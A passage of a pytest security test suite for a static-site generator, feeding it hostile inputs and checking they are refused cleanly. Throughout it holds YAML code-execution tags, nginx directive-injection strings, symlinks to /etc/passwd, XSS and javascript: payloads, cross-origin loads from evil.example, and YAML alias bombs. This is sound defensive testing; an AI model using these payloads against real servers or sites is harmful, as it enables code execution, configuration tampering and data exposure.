    ("phone_list", yml_line("phone:", "  phone: [070, 071]"), False, None),
    ("hours_sexagesimal_int", yml_line("- {days:", '    - {days: mon-fri, opens: 9:00, closes: "16:00"}'),
     False, None),
    ("hours_bad_day", yml_line("- {days:", '    - {days: mon-xyz, opens: "09:00", closes: "16:00"}'),
     False, None),
    ("hours_25_oclock", yml_line("- {days:", '    - {days: mon-fri, opens: "25:00", closes: "16:00"}'),
     False, None),
    ("hide_visit_page_javascript", yml_insert(None, 'hide_visit_page: "javascript:alert(1)"'), False, None),
    ("python_tag", yml_line("base_url:", 'base_url: !!python/object/apply:os.system ["touch pwned"]'),
     False, None),
    ("duplicate_key", yml_insert(None, "base_url: https://evil.example/"), False, None),
    ("deep_nesting", yml_line("base_url:", "base_url: " + "[" * 20000 + "]" * 20000), False, None),
    ("not_a_mapping", yml_whole(b"- a\n- b\n"), False, None),
    ("empty_file", yml_whole(b""), False, None),
    ("binary_junk", yml_whole(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe"), False, None),
    ("file_of_3_mb", yml_special(_settings_huge), False, None),
    ("fifo", yml_special(_fifo_settings), False, None),
    ("link_outside_project", yml_special(_settings_outside), False, None),
    ("dangling_link", yml_special(_settings_dangling), False, None),
    ("folder", yml_special(_settings_folder), False, None),
]


@pytest.mark.parametrize("command", ["check", "build", "nginx"])
@pytest.mark.parametrize(("plant", "harmless", "says"),
                         [pytest.param(*case[1:], id=case[0]) for case in SETTINGS_CASES])
def test_hostile_settings_are_refused_with_their_line(env: Env, command: str, plant: Plant,
                                                      harmless: bool, says: str | None) -> None:
    where = plant(env)
    if command == "check":
        judge_check(env, *where, may_pass=harmless, says=says)
    elif command == "build":
        build = judge_build(env, *where, may_succeed=harmless, says=says)
        if build.code == 0:  # a harmless value: shown as text, and robots.txt is one clean line each
            robots = (env.out / "robots.txt").read_text(encoding="utf-8")
            assert all(re.fullmatch(r"[A-Za-z-]+: \S+", line) for line in robots.splitlines()
                       if line), robots
    else:
        result = env.run("nginx", "--build", str(env.out), "--listen", "127.0.0.1:8080")
        no_traceback(result)
        if result.code == 0:
            assert harmless, f"`portal nginx` wrote a configuration from these settings:\n{result}"
        else:
            fails_cleanly(result, *where, says=says)
    assert not (env.tmp / "pwned").exists() and not (env.root / "pwned").exists(), \
        "a YAML tag ran a command"


# --- portal nginx: a damaged marker, paths and options that would break the config ---------------

def _truncate(marker: Path) -> None:
    data = marker.read_bytes()
    marker.write_bytes(data[: len(data) // 2])


def _garbage(marker: Path) -> None:
    marker.write_bytes(b"\x00\xff\xfe garbage {{{ \x89PNG")


def _empty(marker: Path) -> None:
    marker.write_bytes(b"")


def _json_list(marker: Path) -> None:
    marker.write_text("[]", encoding="utf-8")


def _hashes_string(marker: Path) -> None:
    data = json.loads(marker.read_text(encoding="utf-8"))
    data["script_hashes"] = "abc"
    marker.write_text(json.dumps(data), encoding="utf-8")


def _hashes_injection(marker: Path) -> None:
    data = json.loads(marker.read_text(encoding="utf-8"))
    data["script_hashes"] = ["x' always;\n        add_header X-Injected \"1"]
    data["wasm"] = "yes; add_header X-Injected 1"
    marker.write_text(json.dumps(data), encoding="utf-8")


def _marker_folder(marker: Path) -> None:
    marker.unlink()
    marker.mkdir()


def _marker_fifo(marker: Path) -> None:
    marker.unlink()
    os.mkfifo(marker)


def _marker_to_passwd(marker: Path) -> None:
    marker.unlink()
    marker.symlink_to("/etc/passwd")


MARKER_CASES = [_truncate, _garbage, _empty, _json_list, _hashes_string, _hashes_injection,
                _marker_folder, _marker_fifo, _marker_to_passwd]


@pytest.mark.parametrize("damage", MARKER_CASES, ids=lambda f: f.__name__.strip("_"))
def test_nginx_refuses_a_damaged_marker_cleanly(env: Env, damage: Callable[[Path], None]) -> None:
    damage(env.out / ".portal-build.json")
    result = env.run("nginx", "--build", str(env.out), "--listen", "127.0.0.1:8080", timeout=60)
    fails_cleanly(result, mention=".portal-build.json")
    assert "X-Injected" not in result.output


def nginx_statements(text: str) -> list[tuple[int, list[str]]]:
    """The directives of an nginx configuration as nginx reads them: (depth, words), with
    quoted strings and escapes undone and comments dropped."""
    statements: list[tuple[int, list[str]]] = []
    words: list[str] = []
    depth, i = 0, 0
    escapes = {"t": "\t", "r": "\r", "n": "\n", '"': '"', "'": "'", "\\": "\\"}
    while i < len(text):
        ch = text[i]
        if ch.isspace():
            i += 1
        elif ch == "#":  # at the start of a word: a comment to the end of the line
            end = text.find("\n", i)
            i = len(text) if end < 0 else end + 1
        elif ch == ";":
            statements.append((depth, words))
            words, i = [], i + 1
        elif ch == "{":
            statements.append((depth, [*words, "{"]))
            words, depth, i = [], depth + 1, i + 1
        elif ch == "}":
            assert not words, f"unfinished directive {words} before }}"
            depth, i = depth - 1, i + 1
            assert depth >= 0, "a } too many"
        else:
            quote = ch if ch in "\"'" else None
            i += 1 if quote else 0
            buf = []
            while i < len(text):
                ch = text[i]
                if (quote and ch == quote) or (not quote and (ch.isspace() or ch in ";{}")):
                    break
                if ch == "\\" and i + 1 < len(text):
                    nxt = text[i + 1]
                    buf.append(escapes.get(nxt, "\\" + nxt))
                    i += 2
                    continue
                buf.append(ch)
                i += 1
            if quote:
                assert i < len(text), "an unclosed quote"
                i += 1
            words.append("".join(buf))
    assert not words and depth == 0, "the configuration ends inside a directive or block"
    return statements


def same_config_but(benign: str, hostile: str, old: str, new: str) -> None:
    """The hostile configuration must have exactly the directives of the benign one, with the
    value `old` replaced by `new` as one whole word wherever it stood alone."""
    a, b = nginx_statements(benign), nginx_statements(hostile)
    shape_a = [(d, w[0] if w else "", len(w)) for d, w in a]
    shape_b = [(d, w[0] if w else "", len(w)) for d, w in b]
    assert shape_a == shape_b, "the value changed the configuration's directives:\n" + "\n".join(
        f"  {x} | {y}" for x, y in itertools.zip_longest(shape_a, shape_b) if x != y)
    replaced = 0
    for (_, wa), (_, wb) in zip(a, b, strict=True):
        for x, y in zip(wa, wb, strict=True):
            if x == old:
                assert y == new, f"nginx reads {y!r} where the value {new!r} belongs"
                replaced += 1
            else:
                assert x == y, f"nginx reads {y!r} instead of {x!r}"
    assert replaced, f"{old!r} is not a word of the benign configuration"


def nginx_accepts(config: str, folder: Path) -> None:
    """Debian's nginx parses the configuration (nginx -t), when it is installed."""
    if not NGINX.exists():
        return
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "portal.conf").write_text(config, encoding="utf-8")
    (folder / "nginx.conf").write_text(f"""
worker_processes 1;
pid {folder}/nginx.pid;
error_log {folder}/error.log warn;
events {{ worker_connections 16; }}
http {{
    include /etc/nginx/mime.types;
    client_body_temp_path {folder};
    proxy_temp_path {folder};
    fastcgi_temp_path {folder};
    uwsgi_temp_path {folder};
    scgi_temp_path {folder};
    include {folder}/portal.conf;
}}
""", encoding="utf-8")
    test = subprocess.run([str(NGINX), "-t", "-q", "-e", str(folder / "error.log"), "-c",
                           str(folder / "nginx.conf")], capture_output=True, timeout=30)
    assert test.returncode == 0, f"nginx -t refuses the configuration:\n{test.stderr.decode()}"


BUILD_PATHS = [("space", "site with space"), ("semicolon", "site;x"), ("double_quote", 'site"x'),
               ("single_quote", "site'x"), ("dollar_known_variable", "site$host"),
               ("dollar_unknown_variable", "site$nope"), ("newline", "site\nx"),
               ("braces", "site{x}"), ("hash", "site#x"), ("backslash", "site\\x"),
               ("tab", "site\tx"), ("closing_brace", "site}x"),
               ("injection", 'site";\n    autoindex on;\n    root "/etc')]


@pytest.mark.parametrize("name", [pytest.param(n, id="path_" + i) for i, n in BUILD_PATHS])
def test_nginx_quotes_or_refuses_a_build_path(env: Env, name: str) -> None:
    target = env.tmp / name
    shutil.copytree(env.out, target, symlinks=True)
    listen = ("--listen", "127.0.0.1:8080")
    benign = env.run("nginx", "--build", str(env.out), *listen)
    assert benign.code == 0, benign
    result = env.run("nginx", "--build", str(target), *listen)
    no_traceback(result)
    if result.code != 0:
        fails_cleanly(result)
        return
    assert "$" not in name, ("nginx reads $ in root as a variable, even in quotes: a path with $ "
                             f"must be refused\n{result}")
    same_config_but(benign.output, result.output, str(env.out), str(target))
    nginx_accepts(result.output, env.tmp / "nginx-test")


# (id, hostile options, benign options, the benign value that the hostile value replaces)
NGINX_OPTIONS = [
    ("listen_semicolon", ["--listen", "127.0.0.1:8080; root /etc"], ["--listen", "127.0.0.1:8080"],
     "127.0.0.1:8080"),
    ("listen_brace", ["--listen", "127.0.0.1:8080; } server { listen 8081"],
     ["--listen", "127.0.0.1:8080"], "127.0.0.1:8080"),
    ("listen_newline", ["--listen", "127.0.0.1:8080\nroot /etc"], ["--listen", "127.0.0.1:8080"],
     "127.0.0.1:8080"),
    ("acme_root_semicolon", ["--acme-root", "/var/lib/x; autoindex on"], [], "/var/lib/letsencrypt"),
    ("acme_root_newline", ["--acme-root", "/var/lib/x\n}\nserver { listen 81; root /;"], [],
     "/var/lib/letsencrypt"),
    ("acme_root_space", ["--acme-root", "/var/lib/lets encrypt"], [], "/var/lib/letsencrypt"),
    ("certificate_newline", ["--certificate", "/etc/ssl/a.pem;\n}\nserver {"], [],
     "/etc/ssl/certs/portal.pem"),
    ("certificate_key_dollar", ["--certificate-key", "/etc/ssl/$host.key"], [],
     "/etc/ssl/private/portal.key"),
]


@pytest.mark.parametrize(("hostile", "benign", "old"),
                         [pytest.param(*case[1:], id=case[0]) for case in NGINX_OPTIONS])
def test_nginx_options_are_quoted_or_refused(env: Env, hostile: list[str], benign: list[str],
                                             old: str) -> None:
    good = env.run("nginx", "--build", str(env.out), *benign)
    assert good.code == 0, good
    result = env.run("nginx", "--build", str(env.out), *hostile)
    no_traceback(result)
    if result.code != 0:
        fails_cleanly(result)
        return
    new = hostile[1]
    assert "$" not in new, f"nginx reads $ as a variable: {new!r} must be refused\n{result}"
    assert hostile[0] != "--listen", f"{new!r} is no address to listen on\n{result}"
    same_config_but(good.output, result.output, old, new)


# ================================================================================================
# 3. Loads from other origins, however the Markdown or the settings spell them
# ================================================================================================

EVIL_IMG = "https://evil.example/x.png"
MARKDOWN_LOADS = [
    ("raw_img_https", f'<img src="{EVIL_IMG}" alt="x">'),
    ("raw_img_protocol_relative", '<img src="//evil.example/x.png" alt="x">'),
    ("raw_img_http", '<img src="http://evil.example/x.png" alt="x">'),
    ("raw_img_backslashes", '<img src="\\\\evil.example\\x.png" alt="x">'),
    ("raw_img_slash_backslash", '<img src="/\\evil.example/x.png" alt="x">'),
    ("raw_img_scheme_without_slashes", '<img src="https:evil.example/x.png" alt="x">'),
    ("raw_img_leading_space", '<img src=" //evil.example/x.png" alt="x">'),
    ("raw_img_entity_encoded", '<img src="&#104;ttps://evil.example/x.png" alt="x">'),
    ("raw_img_tab_in_scheme", '<img src="ht&#9;tps://evil.example/x.png" alt="x">'),
    ("raw_img_unquoted_uppercase", "<IMG SRC=HTTPS://EVIL.EXAMPLE/X.PNG ALT=x>"),
    ("raw_img_own_base_url_absolute", '<img src="https://test.ekbacka.example/static/x.png" alt="x">'),
    ("md_img_https", f"![x]({EVIL_IMG})"),
    ("md_img_protocol_relative", "![x](//evil.example/x.png)"),
    ("md_img_http", "![x](http://evil.example/x.png)"),
    ("md_img_uppercase_scheme", "![x](HTTPS://evil.example/x.png)"),
    ("md_img_with_title", f'![x]({EVIL_IMG} "titel")'),
    ("md_img_angle_target_with_spaces", "![x](<https://evil.example/a b.png>)"),
    ("md_img_angle_target", f"![x](<{EVIL_IMG}>)"),
    ("md_img_reference", f"![a][r]\n\n[r]: {EVIL_IMG}"),
    ("md_img_reference_case", f"![a][R]\n\n[r]: {EVIL_IMG}"),
    ("md_img_reference_angle_title", f'![a][r]\n\n[r]: <{EVIL_IMG}> "t"'),
    ("md_img_reference_defined_first", f"[r]: {EVIL_IMG}\n\nText ![a][r] text."),
    ("md_img_reference_url_next_line", f"![a][r]\n\n[r]:\n    {EVIL_IMG}"),
    ("md_img_collapsed_reference", f"![r][]\n\n[r]: {EVIL_IMG}"),
    ("md_img_nested_in_link", f"[![a]({EVIL_IMG})](kontakt.md)"),
    ("md_img_nested_in_external_link", f"[![a]({EVIL_IMG})](https://evil.example/)"),
    ("md_img_alt_split_over_lines", f"![a\nb]({EVIL_IMG})"),
    ("raw_img_split_over_lines", f'<img\nsrc="{EVIL_IMG}"\nalt="x">'),
    ("md_img_in_table", f"| a | b |\n|---|---|\n| ![x]({EVIL_IMG}) | y |"),
    ("md_img_in_list", f"- a\n- ![x]({EVIL_IMG})"),
    ("md_img_in_blockquote", f"> ![x]({EVIL_IMG})"),
    ("md_img_in_heading", f"## Rubrik ![x]({EVIL_IMG})"),
    ("md_img_attr_list_src", "![x](/static/images/share.png){: src=\"https://evil.example/x.png\"}"),
    ("attr_list_style_url", "Text\n{: style=\"background:url(https://evil.example/a.png)\"}"),
    ("attr_list_srcset", "![x](/static/images/share.png){: srcset=\"https://evil.example/x.png 2x\"}"),
    ("img_srcset", '<img src="/static/images/share.png" '
                   'srcset="/a.png 1x, https://evil.example/b.png 2x" alt="x">'),
    ("picture_source_srcset", '<picture><source srcset="https://evil.example/a.png 1x">'
                              '<img src="/static/images/share.png" alt="x"></picture>'),
    ("video_poster", '<video poster="https://evil.example/p.png"></video>'),
    ("video_source", '<video><source src="https://evil.example/v.mp4"></video>'),
    ("audio_src", '<audio src="https://evil.example/a.mp3"></audio>'),
    ("track_src", '<video><track src="https://evil.example/t.vtt"></video>'),
    ("style_attribute_url", '<p style="background:url(https://evil.example/a.png)">x</p>'),
    ("style_attribute_css_escape", '<p style="background:\\75rl(https://evil.example/a.png)">x</p>'),
    ("style_attribute_image_set",
     '<p style="background-image:image-set(\'https://evil.example/a.png\' 1x)">x</p>'),
    ("style_element_import", "<style>@import url(https://evil.example/a.css);</style>"),
    ("style_element_import_string", '<style>@import "https://evil.example/a.css";</style>'),
    ("style_element_background", "<style>body{background:url(//evil.example/a.png)}</style>"),
    ("link_stylesheet", '<link rel="stylesheet" href="https://evil.example/a.css">'),
    ("link_preload", '<link rel="preload" as="image" href="https://evil.example/a.png">'),
    ("link_icon", '<link rel="icon" href="https://evil.example/favicon.ico">'),
    ("iframe_src", '<iframe src="https://evil.example/"></iframe>'),
    ("object_data", '<object data="https://evil.example/x.svg"></object>'),
    ("embed_src", '<embed src="https://evil.example/x.svg">'),
    ("input_image", '<input type="image" src="https://evil.example/x.png" alt="x">'),
    ("svg_image_href", '<svg><image href="https://evil.example/x.png"/></svg>'),
    ("svg_use_xlink", '<svg><use xlink:href="https://evil.example/s.svg#a"/></svg>'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("base_href", '<base href="https://evil.example/">'),
    ("table_background", f'<table background="{EVIL_IMG}"><tr><td>x</td></tr></table>'),
    ("td_background", f'<table><tr><td background="{EVIL_IMG}">x</td></tr></table>'),
    ("a_ping", '<a href="/sv/kontakt/" ping="https://evil.example/">x</a>'),
    ("script_src", '<script src="https://evil.example/x.js"></script>'),
    ("markdown_in_html_block", f'<div markdown="1">\n\n![x]({EVIL_IMG})\n\n</div>'),
    ("html_comment_around_img", f"<!-- x --><img src=\"{EVIL_IMG}\" alt=\"x\"><!-- y -->"),
    ("md_img_in_footnote", f"Text[^1]\n\n[^1]: ![x]({EVIL_IMG})"),
]


@pytest.mark.parametrize("body", [pytest.param(body, id=name) for name, body in MARKDOWN_LOADS])
def test_a_load_from_another_origin_is_refused_or_never_published(env: Env, body: str) -> None:
    lines = env.page(body)
    check = judge_check(env, (PAGE, lines), may_pass=True)
    build = judge_build(env, (PAGE, lines), may_succeed=True)
    consistent(check, build)


PROGRAMME = "programme: {{sv: {sv}, en: Exit Programme, ar: برنامج الخروج}}"
# (id, the settings line it replaces, its new text, the page body)
SMUGGLED = [
    ("programme_markdown_image", "programme:", PROGRAMME.format(sv=f"'![x]({EVIL_IMG})'"),
     "Vi är {{ programme }}."),
    ("programme_raw_img", "programme:", PROGRAMME.format(sv=f"'<img src={EVIL_IMG}>'"),
     "Vi är {{ programme }}."),
    ("programme_protocol_relative_image", "programme:",
     PROGRAMME.format(sv="'![x](//evil.example/x.png)'"), "{{ programme }}"),
    ("programme_reference_definition", "programme:",
     PROGRAMME.format(sv=f"'[r]: {EVIL_IMG}'"), "![a][r]\n\n{{ programme }}"),
    ("programme_image_inside_link", "programme:",
     PROGRAMME.format(sv=f"'[![a]({EVIL_IMG})](kontakt.md)'"), "{{ programme }}"),
    ("programme_attr_list", "programme:",
     PROGRAMME.format(sv="'{: style=\"background:url(https://evil.example/a.png)\"}'"),
     "Text\n{{ programme }}"),
    ("programme_javascript_link", "programme:",
     PROGRAMME.format(sv="'[x](javascript:alert(1))'"), "{{ programme }}"),
    ("programme_placeholder_in_value", "programme:",
     PROGRAMME.format(sv="'{{ programme }}{{ programme }}'"), "{{ programme }}"),
    ("municipality_image_in_heading", "municipality:",
     MUNI.format(sv=f"'![x]({EVIL_IMG})'"), "## {{ municipality }}"),
    ("address_image", "address:", f"  address: '![x]({EVIL_IMG})'", "Besök oss på {{ address }}."),
    ("address_raw_img_in_table", "address:", f"  address: '<img src={EVIL_IMG}>'",
     "| a | b |\n|---|---|\n| {{ address }} | y |"),
]


@pytest.mark.parametrize(("start", "line", "body"),
                         [pytest.param(*case[1:], id=case[0]) for case in SMUGGLED])
def test_markdown_smuggled_in_a_placeholder_value_never_loads(env: Env, start: str, line: str,
                                                              body: str) -> None:
    where = [*yml_line(start, line)(env), (PAGE, env.page(body))]
    check = judge_check(env, *where, may_pass=True)
    build = judge_build(env, *where, may_succeed=True)
    consistent(check, build)


# ================================================================================================
# 4. Resource exhaustion: bombs, pathological Markdown, pipes, link loops, links out
# ================================================================================================

# A plant returns where the problem must be named, and what must hold:
# "refuse": check and build fail naming it; "report": it is named (error or warning) and never
# published; "survive": no hang, no traceback, and if refused, named.
Exhaust = Callable[[Env], list[Where]]


def _page_text(rel: str, text: str | bytes, lines: Collection[int] | None) -> Exhaust:
    def plant(env: Env) -> list[Where]:
        env.write(rel, text)
        return [(rel, lines)]
    return plant


def _body(body: str) -> Exhaust:
    """A page with a pathological body: a limit on time or size may name the page without a line."""
    def plant(env: Env) -> list[Where]:
        env.page(body)
        return [(PAGE, None)]
    return plant


def _front_matter_bomb(env: Env) -> list[Where]:
    bomb = lol_bomb()
    env.write("content/sv/bomb.md",
              "---\n" + "\n".join(bomb) + "\ntitle: *lol8\ndescription: d\n---\n\nText.\n")
    return [("content/sv/bomb.md", range(2, len(bomb) + 3))]


def _front_matter_bomb_in_unknown_field(env: Env) -> list[Where]:
    """The bomb in a field the portal does not know: the message must not print its value."""
    bomb = lol_bomb(prefix="x")
    env.write("content/sv/bomb.md", "---\ntitle: T\ndescription: D\n" + "\n".join(bomb)
              + "\nextra: *x8\n---\n\nText.\n")
    return [("content/sv/bomb.md", range(4, len(bomb) + 5))]


def _templates_loop(env: Env) -> list[Where]:
    folder = env.root / "templates"
    folder.mkdir(exist_ok=True)
    for name in "abcd":
        (folder / name).symlink_to(".")
    (folder / "components").mkdir()
    (folder / "components" / "up").symlink_to("..")
    return [("templates/a", None), ("templates", None)]


def _content_loop(env: Env) -> list[Where]:
    for name in ("loop", "loop2", "loop3"):
        (env.root / "content" / "sv" / name).symlink_to(".")
    (env.root / "content" / "sv" / "up").symlink_to("..")
    return [("content/sv/loop", None), ("content/sv/up", None), ("content/sv", None)]


def _static_loop(env: Env) -> list[Where]:
    for name in ("a", "b", "c"):
        (env.root / "static" / name).symlink_to(".")
    (env.root / "static" / "css" / "up").symlink_to("..")
    return [("static/a", None), ("static/css/up", None), ("static", None)]


def _fifo(rel: str) -> Exhaust:
    def plant(env: Env) -> list[Where]:
        env.fifo(rel)
        return [(rel, None)]
    return plant


def _fifo_template(env: Env) -> list[Where]:
    (env.root / "templates" / "components").mkdir(parents=True, exist_ok=True)
    env.fifo("templates/components/footer.html")
    return [("templates/components/footer.html", None)]


def _link_out(rel: str, target: Callable[[Env], Path | str]) -> Exhaust:
    def plant(env: Env) -> list[Where]:
        env.link(rel, target(env))
        return [(rel, None)]
    return plant


def _language_folder_outside(env: Env) -> list[Where]:
    folder = env.outside / "en"
    shutil.copytree(env.root / "content" / "en", folder)
    (folder / "hemlig.md").write_bytes((env.outside / "secret.md").read_bytes())
    env.link("content/en", folder)
    return [("content/en", None)]


def _translations_outside(env: Env) -> list[Where]:
    folder = env.outside / "sv"
    shutil.copytree(env.root / "translations" / "sv", folder)
    po = folder / "LC_MESSAGES" / "messages.po"
    po.write_text(po.read_text(encoding="utf-8").replace(
        'msgstr "Hoppa till huvudinnehållet"',
        f'msgstr "{env.secret.decode()}"'), encoding="utf-8")
    env.link("translations/sv", folder)
    return [("translations/sv", None)]


def _templates_outside(env: Env) -> list[Where]:
    folder = env.outside / "components"
    folder.mkdir()
    text = (PORTAL_TEMPLATES / "components" / "footer.html").read_text(encoding="utf-8")
    (folder / "footer.html").write_text(text.replace("<footer", env.secret.decode() + "<footer"),
                                        encoding="utf-8")
    (env.root / "templates").mkdir(exist_ok=True)
    env.link("templates/components", folder)
    return [("templates/components", None)]


NESTED_LIST = "\n".join("    " * i + "- x" for i in range(300))
# (id, plant, "refuse" | "report" | "survive")
EXHAUSTION: list[tuple[str, Exhaust, str]] = [
    ("front_matter_alias_bomb", _front_matter_bomb, "refuse"),
    ("front_matter_alias_bomb_in_unknown_field", _front_matter_bomb_in_unknown_field, "refuse"),
    ("front_matter_nested_20000_deep",
     _page_text("content/sv/djup.md", "---\ntitle: " + "[" * 20000 + "]" * 20000 + "\ndescription: d\n---\n",
                {2}), "refuse"),
    ("front_matter_mapping_5000_deep",
     _page_text("content/sv/djup.md", "---\ntitle: T\ndescription: " + "{a: " * 5000 + "b" + "}" * 5000
                + "\n---\n", {3}), "refuse"),
    ("brackets_20kb", _body("[" * 20_000), "survive"),
    ("brackets_40kb", _body("[" * 40_000), "survive"),
    ("brackets_then_close_40kb", _body("[" * 20_000 + "]" * 20_000), "survive"),
    ("image_brackets_30kb", _body("![" * 15_000), "survive"),
    ("link_openings_40kb", _body("[a](" * 10_000), "survive"),
    ("nested_list_300_deep", _body(NESTED_LIST), "survive"),
    ("blockquote_1000_deep", _body(">" * 1000 + " x"), "survive"),
    ("blockquote_lines_1000_deep", _body("\n".join(">" * i + " x" for i in range(1, 1001))), "survive"),
    ("html_divs_5000_deep", _body("<div>" * 5000 + "x" + "</div>" * 5000), "survive"),
    ("emphasis_50kb", _body("*" * 50_000), "survive"),
    ("emphasis_pairs_50kb", _body("*a_" * 17_000), "survive"),
    ("backticks_50kb", _body("`" * 50_000), "survive"),
    ("table_5000_columns", _body("|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|b" * 5000 + "|"),
     "survive"),
    ("entity_references_1mb", _body("&#x41;" * 170_000), "survive"),
    ("one_line_1_5mb", _body("a" * 1_500_000), "survive"),
    ("placeholders_20000", _body("{{ hours }} " * 20_000), "survive"),
    ("page_of_3_mb", _page_text("content/sv/stor.md", HEAD + "Text. " * 500_000, None), "refuse"),
    ("fifo_page", _fifo("content/sv/fifo.md"), "report"),
    ("fifo_static_file", _fifo("static/css/fifo.css"), "report"),
    ("fifo_template", _fifo_template, "report"),
    ("templates_symlink_loop", _templates_loop, "survive"),
    ("content_symlink_loop", _content_loop, "survive"),
    ("static_symlink_loop", _static_loop, "survive"),
    ("static_link_to_etc_passwd", _link_out("static/passwd.txt", lambda e: "/etc/passwd"), "report"),
    ("static_link_to_secret_outside", _link_out("static/secret.txt", lambda e: e.outside / "secret.txt"),
     "report"),
    ("static_link_to_etc_folder", _link_out("static/etc", lambda e: "/etc"), "report"),
    ("static_link_to_outside_folder", _link_out("static/mer", lambda e: e.outside), "report"),
    ("content_link_to_etc_passwd", _link_out("content/sv/passwd.md", lambda e: "/etc/passwd"), "report"),
    ("content_link_to_page_outside", _link_out("content/sv/hemlig.md", lambda e: e.outside / "secret.md"),
     "report"),
    ("content_language_folder_outside", _language_folder_outside, "report"),
    ("translations_folder_outside", _translations_outside, "report"),
    ("templates_folder_outside", _templates_outside, "report"),
    ("template_link_to_etc_passwd", _link_out("templates/base.html", lambda e: "/etc/passwd"), "report"),
]


@pytest.mark.parametrize(("plant", "rule"),
                         [pytest.param(case[1], case[2], id=case[0]) for case in EXHAUSTION])
def test_resource_exhaustion_is_bounded_and_named(env: Env, plant: Exhaust, rule: str) -> None:
    where = plant(env)
    check = env.run("check")
    no_traceback(check)
    if rule == "refuse" or check.code != 0:
        fails_cleanly(check, *where)
    build = judge_build(env, *where, may_succeed=rule != "refuse")
    if rule == "report":  # named by check or by build, as an error or a warning
        assert any(names(r.output, path, lines) for r in (check, build) for path, lines in where), \
            f"{described(where)} is never reported (it must not be skipped silently):\n{check}\n{build}"
    else:
        consistent(check, build)


# ================================================================================================
# 5. Tracebacks: every mistake is `file:line: what (what to do)`
# ================================================================================================

FM_PAGE = "content/sv/fel.md"
# (id, front matter lines between the --- lines, the line of the mistake, "refuse" | "report" |
# "survive" as above)
FRONT_MATTER = [
    ("slug_list", "title: T\ndescription: D\nslug: [a, b]", 4, "refuse"),
    ("slug_mapping", "title: T\ndescription: D\nslug: {a: b}", 4, "refuse"),
    ("slug_trailing_newline", 'title: T\ndescription: D\nslug: "a\\n"', 4, "refuse"),
    ("slug_int", "title: T\ndescription: D\nslug: 42", 4, "survive"),
    ("slug_float", "title: T\ndescription: D\nslug: 1.5", 4, "refuse"),
    ("slug_bool", "title: T\ndescription: D\nslug: yes", 4, "refuse"),
    ("slug_empty", 'title: T\ndescription: D\nslug: ""', 4, "refuse"),
    ("slug_traversal", "title: T\ndescription: D\nslug: ../../../etc", 4, "refuse"),
    ("slug_slash", "title: T\ndescription: D\nslug: a/b", 4, "refuse"),
    ("slug_dot", "title: T\ndescription: D\nslug: .", 4, "refuse"),
    ("slug_unicode", "title: T\ndescription: D\nslug: kontäkt", 4, "refuse"),
    ("slug_of_another_page", "title: T\ndescription: D\nslug: kontakt",
     [(FM_PAGE, {4}), ("content/sv/kontakt.md", {4})], "refuse"),
    ("slug_reserved", "title: T\ndescription: D\nslug: search", 4, "refuse"),
    ("slug_300_chars", "title: T\ndescription: D\nslug: " + "a" * 300, 4, "refuse"),
    ("title_list", "title: [a, b]\ndescription: D", 2, "refuse"),
    ("title_mapping", "title: {a: b}\ndescription: D", 2, "refuse"),
    ("title_null", "title:\ndescription: D", 2, "refuse"),
    ("title_bidi_u202e", 'title: "Kon\\u202etakt"\ndescription: D', 2, "report"),
    ("description_bidi_u202e", 'title: T\ndescription: "Ring \\u202e oss"', 3, "report"),
    ("title_newline", 'title: "Rad ett\\nRad två"\ndescription: D', 2, "report"),
    ("title_markup", "title: '<script>alert(1)</script>'\ndescription: D", 2, "survive"),
    ("description_attribute_breakout", "title: T\ndescription: '\"><script>alert(1)</script>'", 3,
     "survive"),
    ("title_300_chars", "title: " + "T" * 300 + "\ndescription: D", 2, "survive"),
    ("order_infinity", "title: T\ndescription: D\norder: .inf", 4, "refuse"),
    ("order_nan", "title: T\ndescription: D\norder: .nan", 4, "refuse"),
    ("order_huge_int", "title: T\ndescription: D\norder: 99999999999999999999999999999", 4, "survive"),
    ("order_list", "title: T\ndescription: D\norder: [1]", 4, "refuse"),
    ("updated_february_30", "title: T\ndescription: D\nupdated: 2026-02-30", 4, "refuse"),
    ("updated_year_0", "title: T\ndescription: D\nupdated: 0000-01-01", 4, "refuse"),
    ("updated_text", "title: T\ndescription: D\nupdated: igår", 4, "refuse"),
    ("updated_timestamp_hour_25", "title: T\ndescription: D\nupdated: 2026-01-01 25:00:00", 4, "refuse"),
    ("draft_text", "title: T\ndescription: D\ndraft: kanske", 4, "refuse"),
    ("easy_read_list", "title: T\ndescription: D\neasy_read: [ja]", 4, "refuse"),
    ("python_tag", "title: !!python/object/apply:os.system ['touch pwned']\ndescription: D", 2, "refuse"),
    ("python_name_tag", "title: !!python/name:os.system\ndescription: D", 2, "refuse"),
    ("binary_tag", "title: !!binary aGVsbG8=\ndescription: D", 2, "refuse"),
    ("set_tag", "title: !!set {a, b}\ndescription: D", 2, "refuse"),
    ("unhashable_key", "title: T\ndescription: D\n? [a, b]\n: c", 4, "refuse"),
    ("integer_key", "title: T\ndescription: D\n1: x", 4, "refuse"),
    ("nul_byte", "title: a\x00b\ndescription: D", 2, "refuse"),
    ("tab_indentation", "title: T\ndescription: D\n\tslug: x", 4, "refuse"),
    ("unclosed_quote", "description: D\ntitle: 'T", 3, "refuse"),
    ("scalar_front_matter", "just a sentence", 2, "refuse"),
    ("list_front_matter", "- title\n- description", 2, "refuse"),
    ("merge_key_of_a_list", "a: &a [1]\ntitle: T\ndescription: D\n<<: *a", {2, 5}, "refuse"),
    ("undefined_alias", "title: *nope\ndescription: D", 2, "refuse"),
]


@pytest.mark.parametrize(("front", "line", "rule"),
                         [pytest.param(*case[1:], id=case[0]) for case in FRONT_MATTER])
def test_front_matter_mistakes_are_named_with_their_line(
    env: Env, front: str, line: int | set[int] | list[Where], rule: str
) -> None:
    env.write(FM_PAGE, f"---\n{front}\n---\n\nText.\n")
    where: list[Where] = (line if isinstance(line, list) else
                          [(FM_PAGE, {line} if isinstance(line, int) else line)])
    check = env.run("check")
    if rule == "refuse":
        fails_cleanly(check, *where)
    elif rule == "report":
        reports(check, *where)
    else:
        no_traceback(check)
        if check.code != 0:
            fails_cleanly(check, *where)
    build = judge_build(env, *where, may_succeed=rule != "refuse")
    consistent(check, build)
    assert not (env.tmp / "pwned").exists() and not (env.root / "pwned").exists(), \
        "a YAML tag ran a command"


def _dangling(env: Env) -> Where:
    env.link("content/sv/brutet.md", env.root / "content" / "sv" / "finns-inte.md")
    return ("content/sv/brutet.md", None)


def _self_loop(env: Env) -> Where:
    env.link("content/sv/slinga.md", "slinga.md")
